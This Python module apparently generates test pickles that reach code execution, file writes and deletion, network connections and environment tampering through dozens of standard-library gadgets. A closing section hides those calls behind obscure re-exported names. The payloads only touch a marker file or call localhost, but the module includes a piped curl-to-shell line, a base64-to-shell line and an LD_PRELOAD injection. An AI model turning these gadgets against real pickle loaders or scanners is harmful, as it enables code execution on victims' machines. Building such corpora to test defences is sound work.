# ruff: noqa: E501, FBT003, S604 - tables of calls, one per line
"""Calls of the standard library that run a command, evaluate text or reach files and hosts when a pickle makes them."""

from __future__ import annotations

import base64
import marshal

from third_asm import MARK, C, G, bound, system

TOUCH = f"touch {MARK}"
WRITE = f"open('{MARK}','w').close()"
EXPRESSION = f"__import__('os').system('{TOUCH}')"
SHELL = ["sh", "-c", TOUCH]
CLOSED = ("127.0.0.1", 9)
BUILT = "builtins"


def g(path):
    module, _, name = path.rpartition(":")
    return G(module, name)


def c(path, *args, **how):
    return C(g(path), args, **how)


def kw(path, *args, **named):
    """A call with keyword arguments, through a partial object."""
    made = C(g("functools:partial"), (g(path), *args), "newobj_ex", extra=named)
    return C(made, ())


def code_of(source):
    return c("marshal:loads", marshal.dumps(compile(source, "<model>", "exec")))


def processes():
    blob = base64.b64encode(TOUCH.encode()).decode()
    yield "os.system, piped download", c("os:system", f"curl -s http://127.0.0.1:9/i | sh; {TOUCH}")
    yield "posix.system, base64", c("posix:system", f"echo {blob} | base64 -d | sh")
    yield "os.popen read", bound(c("os:popen", TOUCH), "read")
    yield "os.spawnlp", c("os:spawnlp", 0, "touch", "touch", MARK)
    yield "os.spawnvpe", c("os:spawnvpe", 0, "touch", ["touch", MARK], {"PATH": "/usr/bin:/bin"})
    yield "os.spawnl absolute", c("os:spawnl", 0, "/bin/sh", "sh", "-c", TOUCH)
    yield "os.spawnve", c("os:spawnve", 1, "/bin/sh", ["sh", "-c", f"{TOUCH}; sleep 0"], {})
    yield "posix.posix_spawn", c("posix:posix_spawn", "/bin/sh", SHELL, {})
    yield "os.posix_spawnp", c("os:posix_spawnp", "touch", ["touch", MARK], {"PATH": "/usr/bin:/bin"})
    yield "os.execlp", c("os:execlp", "sh", "sh", "-c", TOUCH)
    yield "posix.execv", c("posix:execv", "/bin/sh", SHELL)
    yield "os.execvpe", c("os:execvpe", "sh", SHELL, {})
    yield "os._execvpe", c("os:_execvpe", "sh", SHELL)
    yield "os._spawnvef", c("os:_spawnvef", 0, "sh", SHELL, None, g("os:execvp"))
    yield "subprocess.run list", c("subprocess:run", SHELL)
    yield "subprocess.call", c("subprocess:call", ["touch", MARK])
    yield "subprocess.check_output", c("subprocess:check_output", SHELL)
    yield (
        "subprocess.Popen shell by position",
        c("subprocess:Popen", TOUCH, -1, None, None, None, None, None, True, True),
    )
    yield "subprocess.getstatusoutput", c("subprocess:getstatusoutput", TOUCH)
    yield "subprocess.check_call shell", kw("subprocess:check_call", TOUCH, shell=True)
    yield (
        "multiprocessing.util.spawnv_passfds",
        c("multiprocessing.util:spawnv_passfds", b"/bin/sh", SHELL, ()),
    )
    yield (
        "multiprocessing Process start",
        bound(kw("multiprocessing.context:ForkProcess", target=g("os:system"), args=(TOUCH,)), "start"),
    )
    yield (
        "asyncio coroutine of a shell",
        c("asyncio.runners:run", c("asyncio.subprocess:create_subprocess_shell", TOUCH)),
    )
    yield "imaplib.IMAP4_stream", c("imaplib:IMAP4_stream", TOUCH)
    yield "pydoc.pipepager", c("pydoc:pipepager", "weights", f"cat; {TOUCH};")
    yield "pydoc.tempfilepager", c("pydoc:tempfilepager", "weights", f"{TOUCH};:")
    yield (
        "pipes.Template",
        bound(
            c("pipes:Template", state={"steps": [(f"{TOUCH} #", "--")], "debugging": 0}),
            "copy",
            "/dev/null",
            "/dev/null",
        ),
    )
    yield (
        "mailcap.findmatch test",
        c("mailcap:findmatch", {"text/plain": [{"view": "cat", "test": TOUCH}]}, "text/plain"),
    )
    yield "_osx_support._read_output", c("_osx_support:_read_output", TOUCH)
    yield "_osx_support._find_build_tool", c("_osx_support:_find_build_tool", f"x; {TOUCH};")
    yield "subprocess.check_output of env", c("subprocess:check_output", ["env", "touch", MARK])
    yield "uuid._get_command_stdout", c("uuid:_get_command_stdout", "touch", MARK)
    yield "distutils.spawn", c("distutils.spawn:spawn", SHELL)
    yield "setuptools._distutils.spawn", c("setuptools._distutils.spawn:spawn", ["touch", MARK])
    yield "webbrowser.GenericBrowser", bound(c("webbrowser:GenericBrowser", ["touch", "%s"]), "open", MARK)
    yield (
        "webbrowser.BackgroundBrowser",
        bound(c("webbrowser:BackgroundBrowser", ["sh", "-c", "touch %s"]), "open", MARK),
    )
    yield "pty.spawn", c("pty:spawn", SHELL)
    yield "os.system after true", c("os:system", f"true && {TOUCH}")
    yield "subprocess.run of a second interpreter", c("subprocess:run", ["python3", "-c", WRITE])
    yield "test script helper", c("test.support.script_helper:assert_python_ok", "-c", WRITE)
    yield (
        "test.support.script_helper.spawn_python",
        bound(c("test.support.script_helper:spawn_python", "-c", WRITE), "wait"),
    )
    yield "ctypes CDLL system", bound(c("ctypes:CDLL", None), "system", TOUCH.encode())
    yield (
        "ctypes PyDLL PyRun_SimpleString",
        bound(c("ctypes:PyDLL", None), "PyRun_SimpleString", WRITE.encode()),
    )
    yield "subprocess.Popen with an executable", c("subprocess:Popen", SHELL, -1, "/bin/sh")
    yield "runpy._run_code", c("runpy:_run_code", code_of(WRITE), {})
    yield (
        "concurrent futures submit",
        bound(
            bound(c("concurrent.futures.thread:ThreadPoolExecutor", 1), "submit", g("os:system"), TOUCH),
            "result",
        ),
    )
    yield (
        "pip vendored subprocess",
        kw("pip._internal.utils.subprocess:call_subprocess", SHELL, command_desc="x"),
    )
    yield "subprocess.getoutput", c("subprocess:getoutput", TOUCH)
    yield (
        "sysconfig expand and run",
        c(
            "os:system",
            c("string:Template.substitute", c("string:Template", "$a third-mark"), {"a": "touch"}),
        ),
    )


def evaluated():
    yield "builtins.exec", c("builtins:exec", WRITE)
    yield "builtins.eval lambda", c("builtins:eval", f"(lambda o: o.system('{TOUCH}'))(__import__('os'))")
    yield "exec of a compiled text", c("builtins:exec", c("builtins:compile", WRITE, "w", "exec"))
    yield "eval of marshal code", c("builtins:eval", code_of(WRITE))
    yield (
        "types.FunctionType of marshal code",
        C(c("types:FunctionType", code_of(WRITE), c("builtins:globals")), ()),
    )
    yield "timeit.timeit", c("timeit:timeit", "1", WRITE, g("time:perf_counter"), 1)
    yield "timeit.repeat", c("timeit:repeat", WRITE, "pass", g("time:perf_counter"), 1, 1)
    yield "timeit.main", c("timeit:main", ["-n", "1", "-r", "1", WRITE])
    yield "timeit.Timer made only", bound(c("timeit:Timer", "0", WRITE), "timeit", 1)
    yield "cProfile.run", c("cProfile:run", WRITE)
    yield "cProfile.runctx", c("cProfile:runctx", WRITE, {}, {})
    yield "profile.run", c("profile:run", WRITE)
    yield "profile.Profile run", bound(c("profile:Profile"), "run", WRITE)
    yield "bdb.Bdb run", bound(c("bdb:Bdb"), "runeval", EXPRESSION)
    yield "trace.Trace run", bound(c("trace:Trace"), "run", WRITE)
    yield "code.InteractiveInterpreter", bound(c("code:InteractiveInterpreter"), "runsource", WRITE)
    yield "code.InteractiveConsole push", bound(c("code:InteractiveConsole"), "push", WRITE)
    yield (
        "doctest.run_docstring_examples",
        c(
            "doctest:run_docstring_examples",
            c("builtins:type", "T", (), {"__doc__": f">>> {WRITE}\n"}),
            {},
            False,
            "T",
        ),
    )
    yield (
        "typing.ForwardRef _evaluate",
        bound(c("typing:ForwardRef", EXPRESSION), "_evaluate", {}, {}, c("builtins:frozenset")),
    )
    yield (
        "typing.get_type_hints",
        c("typing:get_type_hints", c("builtins:type", "T", (), {"__annotations__": {"a": EXPRESSION}}), {}),
    )
    yield (
        "inspect.get_annotations",
        kw(
            "inspect:get_annotations",
            c("builtins:type", "T", (), {"__annotations__": {"a": EXPRESSION}}),
            eval_str=True,
        ),
    )
    yield (
        "dataclasses._create_fn default",
        C(c("dataclasses:_create_fn", "f", (f"a={EXPRESSION}",), ["return a"]), ()),
    )
    yield "dataclasses._create_fn body", C(c("dataclasses:_create_fn", "f", (), [WRITE]), ())
    yield (
        "lib2to3 make_label",
        bound(
            C(g("copyreg:__newobj__"), (g("lib2to3.pgen2.pgen:ParserGenerator"),)),
            "make_label",
            c(
                "types:SimpleNamespace",
                state={"labels": [], "symbol2label": {}, "keywords": {}, "tokens": {}, "symbol2number": {}},
            ),
            f"'x'+str({EXPRESSION})",
        ),
    )
    yield (
        "idlelib autocomplete entity",
        bound(c("idlelib.autocomplete:AutoComplete"), "get_entity", EXPRESSION),
    )
    yield "idlelib calltip entity", c("idlelib.calltip:get_entity", EXPRESSION)
    yield "eval with empty globals", c("builtins:eval", EXPRESSION, {})
    yield "eval of a starred map", c("builtins:eval", f"[*map(__import__('os').system, ['{TOUCH}'])]")
    yield "bdb.Bdb run of a statement", bound(c("bdb:Bdb"), "run", WRITE)
    yield "exec of two statements", c("builtins:exec", f"import sys\nif sys: {WRITE}", {})
    yield (
        "logging dictConfig factory",
        c(
            "logging.config:dictConfig",
            {"version": 1, "formatters": {"f": {"()": "os.system", "command": TOUCH}}},
        ),
    )
    yield (
        "logging dictConfig handler",
        c(
            "logging.config:dictConfig",
            {
                "version": 1,
                "handlers": {"h": {"class": "logging.FileHandler", "filename": MARK}},
                "root": {"handlers": ["h"]},
            },
        ),
    )
    yield "pkgutil.resolve_name", C(c("pkgutil:resolve_name", "os:system"), (TOUCH,))
    yield "pydoc.locate", C(c("pydoc:locate", "os.system"), (TOUCH,))
    yield "importlib import_module", bound(c("importlib:import_module", "subprocess"), "getoutput", TOUCH)
    yield "logging.config resolve", C(c("logging.config:_resolve", "os.system"), (TOUCH,))
    yield (
        "xmlrpc resolve_dotted",
        C(c("xmlrpc.server:resolve_dotted_attribute", c("builtins:__import__", "os"), "system"), (TOUCH,)),
    )
    yield (
        "test import helper",
        C(c("builtins:getattr", c("test.support.import_helper:import_module", "os"), "system"), (TOUCH,)),
    )
    yield "distutils.util execute", c("distutils.util:execute", g("os:system"), (TOUCH,))
    yield (
        "exec of rot13 text",
        c("builtins:exec", c("codecs:decode", c("codecs:encode", WRITE, "rot13"), "rot13")),
    )
    yield "sub-interpreter", c("_xxsubinterpreters:run_string", c("_xxsubinterpreters:create"), WRITE)
    yield (
        "tcl interpreter",
        bound(c("_tkinter:create", None, "a", "A", False, False, False, False), "eval", f"exec {TOUCH}"),
    )
    yield "codeop.compile_command", c("builtins:exec", c("codeop:compile_command", WRITE))
    yield (
        "ast then compile",
        c("builtins:eval", c("builtins:compile", c("ast:parse", EXPRESSION, "m", "eval"), "m", "eval")),
    )
    yield "pickle inside a pickle", c("pickle:loads", b"cos\nsystem\n(S'" + TOUCH.encode() + b"'\ntR.")
    yield (
        "_pickle.loads of base64",
        c(
            "_pickle:loads",
            c("base64:b64decode", base64.b64encode(b"cposix\nsystem\n(V" + TOUCH.encode() + b"\ntR.")),
        ),
    )
    yield (
        "pickle._loads of zlib",
        c(
            "pickle:_loads",
            c(
                "zlib:decompress",
                __import__("zlib").compress(b"cposix\nsystem\n(V" + TOUCH.encode() + b"\ntR."),
            ),
        ),
    )
    yield (
        "_pickle.loads of an inner stream",
        c("_pickle:loads", bytes.fromhex((b"cposix\nsystem\n(V" + TOUCH.encode() + b"\ntR.").hex())),
    )
    yield (
        "_pickle.Unpickler of an inner stream",
        bound(
            c("_pickle:Unpickler", c("io:BytesIO", b"cposix\nsystem\n(V" + TOUCH.encode() + b"\ntR.")), "load"
        ),
    )


def indirect():
    system_of = g("os:system")
    yield "map and list", c("builtins:list", c("builtins:map", system_of, [TOUCH]))
    yield "map and tuple and bytes", c("builtins:bytes", c("builtins:map", system_of, [TOUCH]))
    yield "filter and set", c("builtins:set", c("builtins:filter", system_of, [TOUCH]))
    yield "itertools.starmap", c("collections:deque", c("itertools:starmap", system_of, [(TOUCH,)]))
    yield "itertools.dropwhile", c("builtins:list", c("itertools:dropwhile", system_of, [TOUCH]))
    yield "itertools.groupby", c("builtins:dict", c("itertools:groupby", [TOUCH], system_of))
    yield "filterfalse", c("builtins:any", c("itertools:filterfalse", system_of, [TOUCH]))
    yield (
        "takewhile",
        c("builtins:sum", c("itertools:takewhile", g("builtins:int"), c("builtins:map", system_of, [TOUCH]))),
    )
    yield "functools.reduce", c("functools:reduce", g("operator:call"), [system_of, TOUCH])
    yield "operator.call", c("operator:call", system_of, TOUCH)
    yield "functools.partial called", C(c("functools:partial", system_of, TOUCH), ())
    yield "functools.lru_cache", C(c("functools:lru_cache", system_of), (TOUCH,))
    yield "functools.singledispatch", C(c("functools:singledispatch", system_of), (TOUCH,))
    yield (
        "operator.methodcaller",
        C(c("operator:methodcaller", "system", TOUCH), (c("importlib:import_module", "os"),)),
    )
    yield (
        "operator.attrgetter",
        C(C(c("operator:attrgetter", "path.os.system"), (c("builtins:__import__", "os"),)), (TOUCH,)),
    )
    yield (
        "operator.itemgetter of sys.modules",
        C(c("builtins:getattr", C(c("operator:itemgetter", "os"), (g("sys:modules"),)), "system"), (TOUCH,)),
    )
    yield (
        "dict.get of sys.modules",
        C(c("builtins:getattr", bound(g("sys:modules"), "get", "posix"), "system"), (TOUCH,)),
    )
    yield "sorted key", kw("builtins:sorted", [TOUCH], key=system_of)
    yield "max key", kw("builtins:max", [TOUCH, "true"], key=system_of)
    yield "heapq.nsmallest", c("heapq:nsmallest", 1, [TOUCH, "true"], system_of)
    yield "bisect key", kw("bisect:bisect_left", [TOUCH], 1, key=system_of)
    yield (
        "defaultdict factory",
        bound(c("collections:defaultdict", c("functools:partial", system_of, TOUCH)), "__missing__", "x"),
    )
    yield (
        "iter with sentinel",
        c("builtins:next", c("builtins:iter", c("functools:partial", system_of, TOUCH), 1)),
    )
    yield "weakref.finalize", c("weakref:finalize", g("os:system"), g("os:system"), TOUCH)
    yield "atexit.register", c("atexit:register", system_of, TOUCH)
    yield "threading.Timer", bound(c("threading:Timer", 0, system_of, [TOUCH]), "start")
    yield "threading.Thread run", bound(C(g("threading:Thread"), (None, system_of, "t", [TOUCH])), "run")
    yield (
        "_thread.start_new_thread",
        (c("_thread:start_new_thread", system_of, (TOUCH,)), c("time:sleep", 0.4)),
    )
    yield (
        "contextlib.closing",
        bound(
            c(
                "contextlib:closing",
                c("types:SimpleNamespace", state={"close": c("functools:partial", system_of, TOUCH)}),
            ),
            "__exit__",
        ),
    )
    yield (
        "executor map",
        c(
            "builtins:list",
            bound(c("concurrent.futures.thread:ThreadPoolExecutor", 1), "map", system_of, [TOUCH]),
        ),
    )
    yield (
        "work item",
        bound(
            c(
                "concurrent.futures.thread:_WorkItem",
                c("concurrent.futures._base:Future"),
                system_of,
                (TOUCH,),
                {},
            ),
            "run",
        ),
    )
    yield "ThreadPool map", bound(c("multiprocessing.pool:ThreadPool", 1), "map", system_of, [TOUCH])
    yield "property fget", bound(C(g("builtins:property"), (system_of,)), "__get__", TOUCH)
    yield (
        "class getter through type",
        bound(c("builtins:type", "T", (), {"__call__": system_of}), "__call__", TOUCH),
    )
    yield (
        "type with __del__",
        (C(c("builtins:type", "T", (), {"__del__": c("functools:partial", system_of, TOUCH)}), ()), 1),
    )
    yield (
        "type with __reduce__ hash",
        c(
            "builtins:hash",
            C(c("builtins:type", "T", (), {"__hash__": c("functools:partial", system_of, TOUCH)}), ()),
        ),
    )
    yield (
        "type with __setstate__",
        C(
            c("builtins:type", "T", (), {"__setstate__": c("builtins:staticmethod", system_of)}),
            (),
            state=TOUCH,
        ),
    )
    yield (
        "str subclass format",
        c(
            "builtins:format",
            C(c("builtins:type", "T", (), {"__format__": c("builtins:staticmethod", system_of)}), ()),
            TOUCH,
        ),
    )
    yield "callable in Mock", C(kw("unittest.mock:Mock", side_effect=system_of), (TOUCH,))
    yield (
        "re.sub callable",
        c(
            "re:sub",
            "x",
            c(
                "functools:partial",
                c("builtins:eval", f"lambda m: __import__('os').system('{TOUCH}') and '' or ''"),
            ),
            "x",
        ),
    )
    yield (
        "re.Scanner action",
        bound(
            c("re:Scanner", [("t.*", c("builtins:eval", "lambda s, t: __import__('os').system(t)"))]),
            "scan",
            TOUCH,
        ),
    )
    yield (
        "json object hook",
        kw(
            "json:loads",
            '{"a": 1}',
            object_hook=c("builtins:eval", f"lambda d: __import__('os').system('{TOUCH}')"),
        ),
    )
    yield "MethodType", C(c("types:MethodType", system_of, TOUCH), ())
    yield "DynamicClassAttribute", bound(c("types:DynamicClassAttribute", system_of), "__get__", TOUCH)
    yield (
        "cached_property",
        bound(
            c(
                "functools:cached_property",
                c("builtins:eval", f"lambda s: __import__('os').system('{TOUCH}')"),
                state={
                    "attrname": "a",
                    "func": c("builtins:eval", f"lambda s: __import__('os').system('{TOUCH}')"),
                    "lock": c("threading:RLock"),
                },
            ),
            "__get__",
            c("types:SimpleNamespace"),
        ),
    )
    yield (
        "ast.NodeVisitor",
        bound(
            c(
                "ast:NodeVisitor",
                state={
                    "visit_Expr": g("builtins:print"),
                    "visit_Module": c(
                        "functools:partial",
                        c("builtins:eval", f"lambda n: __import__('os').system('{TOUCH}')"),
                    ),
                },
            ),
            "visit",
            c("ast:parse", "1"),
        ),
    )


def effects():
    away = "third-victim"
    yield "logging.FileHandler", c("logging:FileHandler", MARK), "mark"
    yield "open for writing", c("builtins:open", MARK, "w"), "mark"
    yield "io.FileIO", c("io:FileIO", MARK, "wb"), "mark"
    yield "_io.open append", c("_io:open", MARK, "a"), "mark"
    yield "os.open", c("os:open", MARK, 65), "mark"
    yield "codecs.open", c("codecs:open", MARK, "w"), "mark"
    yield "pathlib write_text", bound(c("pathlib:PosixPath", MARK), "write_text", "ssh-rsa AAAA"), "mark"
    yield "pathlib touch", c("pathlib:Path.touch", c("pathlib:PosixPath", MARK)), "mark"
    yield "os.symlink", c("os:symlink", "/etc/hosts", MARK), "os.symlink"
    yield "shutil.copyfile", c("shutil:copyfile", "/etc/hostname", MARK), "mark"
    yield "shutil.rmtree", c("shutil:rmtree", away), "shutil.rmtree"
    yield "os.remove", c("os:remove", away + "/file"), "os.remove"
    yield "os.rename", c("os:rename", away, MARK), "mark"
    yield "os.truncate", c("os:truncate", away + "/file", 0), "os.truncate"
    yield "os.chmod", c("os:chmod", away + "/file", 511), "os.chmod"
    yield "os.link", c("os:link", away + "/file", MARK), "mark"
    yield "zipfile for writing", c("zipfile:ZipFile", MARK, "w"), "mark"
    yield "tarfile for writing", c("tarfile:open", MARK, "w"), "mark"
    yield "sqlite3.connect", c("sqlite3:connect", MARK), "sqlite3.connect"
    yield "dbm.dumb.open", c("dbm.dumb:open", MARK, "n"), "open"
    yield "gzip.open", c("gzip:open", MARK, "wb"), "mark"
    yield "fileinput inplace", c("builtins:list", c("fileinput:FileInput", away + "/file", True)), "os.rename"
    yield "shutil.make_archive", c("shutil:make_archive", MARK, "tar", away), "open"
    yield "socket.create_connection", c("socket:create_connection", CLOSED), "socket.connect"
    yield "urllib urlopen", c("urllib.request:urlopen", "http://127.0.0.1:9/beacon"), "socket.connect"
    yield "urlretrieve", c("urllib.request:urlretrieve", "http://127.0.0.1:9/a", MARK), "socket.connect"
    yield (
        "http.client request",
        bound(c("http.client:HTTPConnection", "127.0.0.1", 9), "request", "GET", "/?host"),
        "socket.connect",
    )
    yield (
        "xmlrpc ServerProxy",
        C(c("builtins:getattr", c("xmlrpc.client:ServerProxy", "http://127.0.0.1:9"), "ping"), ()),
        "socket.connect",
    )
    yield "smtplib.SMTP", c("smtplib:SMTP", "127.0.0.1", 9), "socket.connect"
    yield "ftplib.FTP", c("ftplib:FTP", "127.0.0.1"), "socket.connect"
    yield "telnetlib", c("telnetlib:Telnet", "127.0.0.1", 9), "socket.connect"
    yield "DNS lookup", c("socket:gethostbyname", "leak.127.0.0.1.invalid"), "socket.gethostbyname"
    yield "getaddrinfo", c("_socket:getaddrinfo", "x.invalid", 80), "socket.getaddrinfo"
    yield (
        "logging SocketHandler",
        bound(c("logging.handlers:SocketHandler", "127.0.0.1", 9), "createSocket"),
        "socket.connect",
    )
    yield "multiprocessing Client", c("multiprocessing.connection:Client", CLOSED), "socket.connect"
    yield (
        "asyncio connection",
        c("asyncio.runners:run", c("asyncio.streams:open_connection", "127.0.0.1", 9)),
        "socket.connect",
    )
    yield (
        "environment read into a lookup",
        c("socket:gethostbyname", c("os:getenv", "HOME", "x")),
        "socket.gethostbyname",
    )
    yield "os.kill of the parent's group", c("os:kill", c("os:getpid"), 0), "os.kill"
    yield (
        "signal handler",
        (c("signal:signal", 10, c("builtins:eval", f"lambda *a: {WRITE}")), c("signal:raise_signal", 10)),
        "mark",
    )
    yield (
        "sys.path insertion and import",
        (bound(g("sys:path"), "insert", 0, "third-victim"), c("builtins:__import__", "third_module")),
        "mark",
    )
    yield "site.addsitedir", c("site:addsitedir", "third-victim"), "mark"
    yield (
        "SourceFileLoader",
        bound(c("importlib.machinery:SourceFileLoader", "m", "third-victim/third_module.py"), "load_module"),
        "mark",
    )
    yield "runpy.run_path", c("runpy:run_path", "third-victim/third_module.py"), "mark"
    yield "imp.load_source", c("imp:load_source", "m", "third-victim/third_module.py"), "mark"
    yield "os.environ changed", bound(g("os:environ"), "__setitem__", "LD_PRELOAD", "./evil.so"), "os.putenv"
    yield "os.putenv", c("os:putenv", "HTTPS_PROXY", "http://127.0.0.1:9"), "os.putenv"
    yield "distutils run_setup", c("distutils.core:run_setup", "third-victim/third_module.py"), "mark"
    yield (
        "InteractiveInterpreter.runcode",
        c("code:InteractiveInterpreter.runcode", c("code:InteractiveInterpreter"), code_of(WRITE)),
        "mark",
    )
    yield "ctypes string_at", c("ctypes:string_at", 0), "ctypes.string_at"
    yield "crash through faulthandler", c("faulthandler:_sigsegv"), "crash"
    yield "os.abort", c("os:abort"), "crash"
    yield "os._exit", c("os:_exit", 3), "crash"
    yield (
        "builtins patched",
        c("builtins:setattr", c("builtins:__import__", "builtins"), "print", g("os:system")),
        "patched",
    )
    yield (
        "json.loads patched",
        c("builtins:setattr", c("importlib:import_module", "json"), "loads", g("builtins:eval")),
        "patched:json",
    )


def unusual():
    """The same in places that reviewers know less."""
    yield "dotted re-export: shutil.os.system", c("shutil:os.system", TOUCH)
    yield "dotted re-export: logging.os.popen", bound(c("logging:os.popen", TOUCH), "read")
    yield "dotted re-export: tempfile._os.system", c("tempfile:_os.system", TOUCH)
    yield "dotted re-export: glob.os.system", c("glob:os.system", TOUCH)
    yield "dotted re-export: random._os.system", c("random:_os.system", TOUCH)
    yield "dotted re-export: argparse._os.system", c("argparse:_os.system", TOUCH)
    yield "dotted re-export: pathlib.os.system", c("pathlib:os.system", TOUCH)
    yield "dotted re-export: uuid.os.system", c("uuid:os.system", TOUCH)
    yield "dotted re-export: linecache.os", c("linecache:os.system", TOUCH)
    yield "dotted re-export: gettext.os", c("gettext:os.system", TOUCH)
    yield (
        "dotted re-export: asyncio.base_events.subprocess",
        c("asyncio.base_events:subprocess.getoutput", TOUCH),
    )
    yield "module of a class: codecs.builtins.exec", c("codecs:builtins.exec", WRITE)
    yield (
        "through __globals__",
        C(
            C(c("operator:itemgetter", "system"), (c("builtins:getattr", g("os:walk"), "__globals__"),)),
            (TOUCH,),
        ),
    )
    yield (
        "through __builtins__",
        C(
            C(
                c("operator:itemgetter", "eval"),
                (
                    C(
                        c("operator:itemgetter", "__builtins__"),
                        (c("builtins:getattr", g("json:dumps"), "__globals__"),),
                    ),
                ),
            ),
            (EXPRESSION,),
        ),
    )
    yield (
        "dotted __globals__.__getitem__",
        C(
            C(c("operator:itemgetter", "exec"), (c("json:dumps.__globals__.__getitem__", "__builtins__"),)),
            (WRITE,),
        ),
    )
    yield (
        "dotted __import__ of importlib",
        bound(c("importlib._bootstrap:_gcd_import", "os"), "system", TOUCH),
    )
    yield (
        "loader of a builtin module",
        bound(c("importlib.machinery:BuiltinImporter.load_module", "posix"), "system", TOUCH),
    )
    yield "sys.modules by dotted call", bound(c("sys:modules.__getitem__", "posix"), "system", TOUCH)
    yield "collections._sys.modules", bound(c("collections:_sys.modules.get", "posix"), "system", TOUCH)
    yield "enum.sys.modules", bound(c("enum:sys.modules.get", "posix"), "system", TOUCH)
    yield (
        "vars of a module",
        C(
            C(c("operator:itemgetter", "system"), (c("builtins:vars", c("builtins:__import__", "posix")),)),
            (TOUCH,),
        ),
    )
    yield (
        "object.__getattribute__",
        C(c("builtins:object.__getattribute__", c("builtins:__import__", "posix"), "system"), (TOUCH,)),
    )
    yield "type.__call__", c("builtins:type.__call__", g("subprocess:Popen"), SHELL)
    yield "types.FunctionType.__call__", c("subprocess:getoutput.__call__", TOUCH)
    yield "method-wrapper of system", c("os:system.__call__", TOUCH)
    yield (
        "inspect.getattr_static",
        C(c("inspect:getattr_static", c("builtins:__import__", "posix"), "system"), (TOUCH,)),
    )
    yield (
        "dynamic module name",
        bound(
            c("builtins:__import__", bound("so", "__getitem__", c("builtins:slice", None, None, -1))),
            "system",
            TOUCH,
        ),
    )
    yield "joined command", system(bound(" ", "join", ["touch", MARK]))
    yield (
        "hex command",
        system(c("codecs:decode", c("builtins:bytes.fromhex", TOUCH.encode().hex()), "utf-8")),
    )
